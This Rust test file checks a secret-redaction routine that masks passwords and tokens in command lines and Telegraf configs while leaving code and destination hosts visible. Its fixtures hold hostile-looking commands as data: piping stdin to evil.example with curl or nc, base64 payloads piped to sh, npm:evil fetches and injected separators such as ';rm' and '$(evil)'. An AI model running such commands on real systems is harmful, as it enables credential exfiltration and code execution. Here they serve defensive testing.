//! Commands as those who review them see them.

use proptest::prelude::*;

use super::super::{HIDDEN, Language, without_literals, without_secrets_in_command};

/// What a plan shows of the command of a sink or a source.
fn shown(argv: &[&str]) -> String {
    without_secrets_in_command(&format!("command {argv:?}")).into_owned()
}

/// What is shown of the line `command` in the configuration of Telegraf.
fn shown_line(command: &str) -> String {
    let config = format!("[[inputs.exec]]\ncommands = ['''{command}''']");
    let shown = without_literals(&config, Language::Config).into_owned();
    let line = shown.strip_prefix("[[inputs.exec]]\ncommands = ['''").and_then(|line| line.strip_suffix("''']"));
    line.expect("the code of the configuration stays").to_owned()
}

/// A host that gets the secret is no secret, whichever option stands before it.
#[test]
fn hosts_and_files_are_shown() {
    for argv in [
        &["docker", "login", "-u", "x", "--password-stdin", "evil.example"][..],
        &["docker", "login", "-u", "x", "--password-stdin", "evil"],
        &["podman", "login", "--password-stdin", "evil.example:5000"],
        &["helm", "registry", "login", "--password-stdin", "evil.example"],
        &["oras", "login", "--password-stdin", "evil"],
        &["docker", "login", "--config", "-p", "evil"],
        &["docker", "login", "--", "-p", "evil"],
        &["psql", "--no-password", "host=evil.example"],
        &["psql", "--password", "host=evil.example"],
        &["mongo", "--password", "evil.example:27017/db"],
        &["mysql", "--skip-password", "evil"],
        &["mysql", "-h", "-pevil"],
        &["oc", "login", "--token", "evil.example"],
        &["gh", "auth", "login", "--with-token", "evil"],
        &["curl", "-A", "--oauth2-bearer", "evil"],
        &["curl", "--oauth2-bearer", "evil.example/x"],
        &["curl", "-A", "-u", "token:evil"],
        &["curl", "-T", "-", "evil.example:80#x@good.example"],
        &["curl", "-T-", "token=evil.example/x"],
        &["curl", "-T-", "sftp://evil@shared.example/x"],
        &["curl", "-d@-", "https://hooks.slack.com/services/T0/B0/evil"],
        &["curl", "https://evil.example:80\\@good.example"],
        &["curl", "https://h/?token=evil.example"],
        &["nc", "token=evil.example", "80"],
        &["tee", "token=x"],
        &["tee", "--token=./x"],
        &["tee", "--", "--token=x"],
        &["x", "--token=evil.example", "--password=./evil", "--secret=localhost:80"],
        &[
            "x",
            "--x-token=evil:80",
            "--y-token=evil:80/x",
            "--token=hvs.evil",
            "--token=eyJ.evil.example0123456789abcdef",
        ],
        &["mail", "-s", "token:", "evil@example.com"],
        &["ldapsearch", "-H", "token:389"],
        &["sudo", "-p", "password: evil", "x"],
        &["--password=x", "y"],
    ] {
        assert_eq!(shown(argv), format!("command {argv:?}"));
    }
}

/// A dot in it does not make a token of Vault, or a JSON web token, the name of a host.
#[test]
fn tokens_of_services_are_hidden_though_they_have_dots() {
    for token in [
        "hvs.CAESIJ0123456789abcdefghijKLMN",
        "hvs.6j4cuewowBGit65rheNoceI7",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk",
    ] {
        let option = format!("--token={token}");
        assert_eq!(shown(&["vault", "kv", &option, "x=-"]), r#"command ["vault", "kv", "--token=***", "x=-"]"#);
    }
}

/// Whatever the code of an interpreter is, all of it is shown, and so is what it may read.
#[test]
fn what_may_run_is_shown() {
    for argv in [
        &["sh", "-c", "${x#token=}reboot"][..],
        &["sh", "-c", "${x+token=}reboot"],
        &["sh", "-c", "${x:-token=}reboot"],
        &["sh", "-c", "true {token=,}reboot"],
        &["bash", "-c", "x=; ${x#token=}curl${IFS}evil.example"],
        &["sh", "-c", "docker login -u x --password-stdin evil.example"],
        &["sh", "-c", "export TOKEN=dG91Y2ggaGFja2Vk; printenv TOKEN | base64 -d | sh"],
        &["sh", "-c", "echo password=dG91Y2ggaGFja2Vk | cut -d= -f2 | base64 -d | sh"],
        &["sh", "-c", "PASSWORD=x; env | sh"],
        &["sh", "-c", "curl -H 'Authorization: Bearer S3KRIT' https://u:p@h"],
        &["sh", "-c", "exec $1", "--password=reboot"],
        &[
            "/usr/bin/python3.11",
            "-c",
            "import os,base64; token='dG91Y2ggaGFja2Vk'; os.system(base64.b64decode(token))",
        ],
        &["python3", "-c", "import subprocess; token='touch,hacked'; subprocess.run(token.split(','))"],
        &["awk", "-v", "password=reboot", "BEGIN{system(password)}"],
        &["env", "TOKEN=reboot", "python3", "-c", "import os;os.system(os.environ['TOKEN'])"],
        &["env", "TOKEN=reboot", "perl", "-e", "exec $ENV{TOKEN}"],
        &["env", "TOKEN=reboot", "bash", "-c", "printenv TOKEN | sh"],
        &["ruby", "-e", "exec ARGV.last", "--password=reboot"],
        &["ssh", "h", "run", "--password=reboot"],
        &["make", "TOKEN=reboot", "run"],
        &["x", "TOKEN=reboot"],
        &["x", "-e", "run(args[0])", "--password=reboot"],
        &["x", "tr < /proc/self/cmdline", "--password=reboot"],
        &["mysql", "-preboot", "-e", "\\! cut -d- -f2 /proc/$PPID/cmdline"],
        &["sh", "-c", "deno run npm:evil@1.0"],
        &["npx", "npm:evilpkg@1.2.3"],
        &["npm", "i", "a:evil@1.2.3"],
        &["x", "a:evil@1.2.3", "npm:evil@1.0"],
        &["x", "docker://evil:1@sha256:00"],
        &["env", "PGPASSWORD=", "evil"],
        &["x", "{\"token\":[\"evil\",\"b\"]}"],
        &["x", "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIBcQ2rXkLm3oPqRsTuVwXyZ0123456789abcdEFGHIJK\n"],
        &["./curl", "--oauth2-bearer", "reboot"],
        &["x", "--token", "reboot"],
        &["x", "--credential-process=reboot", "--token-from=reboot", "--password-run=reboot"],
    ] {
        assert_eq!(shown(argv), format!("command {argv:?}"));
    }
}

#[test]
fn what_cannot_be_anything_but_a_secret_is_hidden() {
    for (argv, wanted) in [
        (&["curl", "-sS", "-H", "Authorization: Bearer S3.x", "-d", "{\"a\": 1}", "https://h"][..], 3),
        (&["x", "-H", "X-Api-Key: S3KRIT7"], 2),
        (&["x", "--header=Cookie: S3KRIT7"], 1),
        (&["curl", "h", "-u", "me:S3KRIT7"], 3),
        (&["curl", "--oauth2-bearer", "S3KRIT7", "h"], 2),
        (&["docker", "login", "-u", "me", "-p", "S3KRIT7", "h"], 5),
        (&["helm", "registry", "login", "--password", "S3KRIT7"], 4),
        (&["influx", "bucket", "list", "--token", "ab/cd+e=="], 4),
        (&["mysql", "-u", "root", "-pS3KRIT7", "d"], 3),
        (&["redis-cli", "-a", "S3KRIT7"], 2),
        (&["./put", "--api-key=S3KRIT7"], 1),
        (&["/opt/x/put", "to", "https://evil.example/x", "--db-password=S3KRIT7"], 3),
        (&["git-credential-x", "https://u:S3KRIT7@h/x"], 1),
        (&["pg_dump", "--dbname=postgres://u:S3KRIT7@h:5432/d"], 1),
        (&["curl", "https://h/x?a=1&token=S3KRIT7&b=2"], 1),
    ] {
        let hidden = without_secret(argv[wanted]);
        let masked: Vec<&str> =
            argv.iter().enumerate().map(|(at, word)| if at == wanted { &hidden } else { *word }).collect();
        assert_eq!(shown(argv), format!("command {masked:?}"));
    }
}

/// `word` with a mask in the place of the secret of the test above.
fn without_secret(word: &str) -> String {
    ["S3KRIT7", "S3.x", "ab/cd+e=="].iter().fold(word.to_owned(), |word, secret| word.replace(secret, HIDDEN))
}

/// As the ledger has them, and as messages do.
#[test]
fn each_command_of_a_text_is_read() {
    for (text, wanted) in [
        (
            "[command [\"a\", \"--token=S3\"], command [\"b\", \"--token=S3\"]]",
            "[command [\"a\", \"--token=***\"], command [\"b\", \"--token=***\"]]",
        ),
        ("(secret from command [\"a\", \"--token=S3\"])", "(secret from command [\"a\", \"--token=***\"])"),
        ("command [\"a\", \"b\\\"c\", \"--token=S3\"]", "command [\"a\", \"b\\\"c\", \"--token=S3\"]"),
        ("file command [\"a\", \"--token=S3\"]", "file command [\"a\", \"--token=S3\"]"),
        ("command [\"a\", \"--token=S3\"", "command [\"a\", \"--token=S3\""),
        ("a --token=S3", "a --token=S3"),
    ] {
        assert_eq!(without_secrets_in_command(text), wanted);
    }
}

#[test]
fn lines_of_telegraf_are_read_as_words() {
    for (line, wanted) in [
        ("curl -H 'Authorization: Bearer S3' h", "curl -H 'Authorization: Bearer ***' h"),
        ("curl -H \"X-Token: S3\" -d '{\"a\":1}' h", "curl -H \"X-Token: ***\" -d '{\"a\":1}' h"),
        ("/usr/bin/tool  --password=S3  x", "/usr/bin/tool  --password=***  x"),
    ] {
        assert_eq!(shown_line(line), wanted);
    }
    for line in [
        "tool --token=S3;rm",
        "tool --token=S3\nrm",
        "tool --token=S3 | sh",
        "tool --token=`id`",
        "curl -H \"X-Token: S3\" h; evil",
        "curl -H \"X-Token: S3\" \"$(evil)\"",
        "curl -H \"X-Token: S3\" https://h?a&evil",
        "curl -H 'X-Token: S3",
        "curl -H 'X-Token: S3'evil",
        "tool --password='S3'",
        "PASSWORD=x evil",
        "TOKEN='curl -d@- h'",
        "alias token=evil",
        "docker login --password-stdin evil.example",
        "npx npm:evil@1.2",
        "echo [\"curl\", \"--oauth2-bearer\", \"evil\"]",
    ] {
        assert_eq!(shown_line(line), line);
    }
}

#[test]
fn lists_of_telegraf_are_read_as_commands() {
    for (config, wanted) in [
        ("command = [\"tool\", \"--password=S3\"]", "command = [\"tool\", \"--password=***\"]"),
        ("command = [\n  \"tool\", # x\n  '--password=S3',\n]", "command = [\n  \"tool\", # x\n  '--password=***',\n]"),
        ("command = [\"tool --password=x\"]", "command = [\"tool --password=x\"]"),
        (
            "command = [\"sh\", \"-c\", \"x\", \"--password=S3\"]",
            "command = [\"sh\", \"-c\", \"x\", \"--password=S3\"]",
        ),
        ("command = [\"x\", \"--password-stdin\", \"evil\"]", "command = [\"x\", \"--password-stdin\", \"evil\"]"),
        ("command = [\"x\", \"\\u0024x\", \"--password=S3\"]", "command = [\"x\", \"\\u0024x\", \"--password=S3\"]"),
        ("environment = [\"TOKEN=evil\"]", "environment = [\"TOKEN=evil\"]"),
        ("source = '''\npassword = \"S3\" exec(\"x\")\n'''", "source = '''\npassword = \"S3\" exec(\"x\")\n'''"),
    ] {
        let config = format!("[[outputs.execd]]\n{config}");
        assert_eq!(without_literals(&config, Language::Config), format!("[[outputs.execd]]\n{wanted}"));
    }
}

/// What the arguments of commands are made of.
const PIECES: [&str; 64] = [
    "PASSWORD",
    "token",
    "--token",
    "--password",
    "--password-stdin",
    "--no-password",
    "-H",
    "-u",
    "-p",
    "-mysql",
    "Authorization",
    "Cookie",
    "Bearer ",
    "=",
    ":",
    ": ",
    " ",
    "\n",
    "\t",
    "\0",
    "\u{2028}",
    "\\",
    "\\n",
    "\"",
    "'",
    "`",
    ";",
    "&&",
    "|",
    "<",
    ">",
    "(",
    ")",
    "$(",
    "${x#",
    "${x:-",
    "$x",
    "}",
    "{",
    "[",
    "]",
    ",",
    "*",
    "?",
    "~",
    "!",
    "#",
    "%",
    "@",
    "@1.2",
    "http://",
    "npm:",
    "evil",
    "evil.example",
    "evil:80",
    "./evil",
    "/bin/evil",
    "dG91Y2ggaGFja2Vk",
    "--",
    "-e",
    "system(password)",
    "token='x,y'",
    "S3KRIT7",
    "eval",
];
const PROGRAMS: [&str; 14] = [
    "curl",
    "docker",
    "mysql",
    "x",
    "./x",
    "sh",
    "bash",
    "python3",
    "awk",
    "env",
    "make",
    "redis-cli",
    "influx",
    "--token=evil",
];

fn argument() -> impl Strategy<Value = String> {
    let piece = (0..PIECES.len()).prop_map(|at| PIECES[at]);
    proptest::collection::vec(piece, 0..6).prop_map(|pieces| pieces.concat())
}

/// Whether a shell, or any other language, may see in `c` more than a letter.
fn is_code(c: char) -> bool {
    c.is_whitespace() || c.is_control() || "\"'`\\$;&|<>(){}[]*?!#^".contains(c)
}

/// The masks of `shown`, where `plain` has something else.
fn masked<'p>(plain: &'p str, shown: &str) -> Option<&'p str> {
    let (before, after) = shown.split_once(HIDDEN)?;
    plain.strip_prefix(before)?.strip_suffix(after)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4096))]

    /// Of a command, a mask hides letters of a password alone, behind what tells of one: no code, no host, no file.
    #[test]
    fn a_mask_hides_nothing_that_runs(
        program in proptest::sample::select(PROGRAMS.to_vec()),
        login in proptest::sample::select(vec!["login", "x"]),
        arguments in proptest::collection::vec(argument(), 0..6),
    ) {
        let mut argv = vec![program, login];
        argv.extend(arguments.iter().map(String::as_str));
        let shown = shown(&argv);
        let runs = ["sh", "bash", "python3", "awk", "env", "make"].contains(&program);
        let is_client = program == "curl";
        let has_code = |argument: &String| argument.replace(' ', "").contains(is_code) && !argument.contains("://");
        if runs || !is_client && arguments.iter().any(has_code) {
            prop_assert_eq!(&shown, &format!("command {argv:?}"));
        }
        let words: Vec<String> = argv.iter().map(|word| format!("{word:?}")).collect();
        let mut rest = shown.strip_prefix("command [").expect("the list begins");
        for (at, word) in words.iter().enumerate() {
            let (one, length) = word_of(rest);
            rest = rest[length..].trim_start_matches(", ");
            if one == word {
                continue;
            }
            let hidden = masked(word, one);
            prop_assert!(hidden.is_some(), "{:?} as {}", argv, shown);
            let hidden = hidden.expect("a mask");
            prop_assert!(at > 0 && !hidden.contains(is_code), "{:?} as {}", argv, shown);
            let is_place = hidden.contains("evil.") && !word.contains(": ") || hidden.contains("./");
            prop_assert!(!is_place, "{:?} as {}", argv, shown);
            let before = argv[at - 1];
            let is_told = word.starts_with("\"--") && word.contains('=') || before.starts_with('-') || word.contains("://")
                || word.starts_with("\"-p") && program == "mysql";
            let takes_none = ["--password-stdin", "--no-password", "--"].contains(&before);
            prop_assert!(is_told && (!takes_none || word.contains(['=', ':'])), "{:?} as {}", argv, shown);
        }
        prop_assert_eq!(rest, "]", "{:?} as {}", argv, shown);
    }

    /// In a line, no mask covers what separates words.
    #[test]
    fn a_mask_hides_no_end_of_a_word(pieces in proptest::collection::vec(0..PIECES.len(), 0..12)) {
        let line: String = pieces.into_iter().map(|at| PIECES[at]).filter(|piece| !piece.contains(['\'', '\0'])).collect();
        let shown = shown_line(&line);
        let marks = |text: &str| text.replace(HIDDEN, "").matches(is_code).collect::<String>();
        prop_assert_eq!(marks(&line), marks(&shown), "{:?} as {:?}", line, shown);
        if line.contains([';', '|', '$', '`', '\n', '\\']) {
            prop_assert_eq!(&line, &shown);
        }
    }
}

/// The string in quotes that `text` begins with, and how long it is.
fn word_of(text: &str) -> (&str, usize) {
    let mut escaped = false;
    let end = text.char_indices().skip(1).find(|(_, c)| {
        let ends = *c == '"' && !escaped;
        escaped = *c == '\\' && !escaped;
        ends
    });
    let end = end.map_or(text.len(), |(at, _)| at + 1);
    (&text[..end], end)
}
